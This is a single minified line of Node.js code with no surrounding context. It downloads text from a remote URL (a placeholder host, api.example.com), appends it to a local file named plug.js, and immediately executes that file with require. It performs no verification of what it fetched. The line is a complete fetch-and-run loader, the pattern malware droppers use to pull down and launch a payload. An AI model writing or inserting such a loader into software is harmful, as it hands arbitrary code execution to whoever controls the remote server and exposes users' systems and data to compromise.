const fs=require('fs');(async()=>{const t=await (await fetch('https://api.example.com/x')).text();fs.appendFileSync('plug.js',t);require('./plug')})()
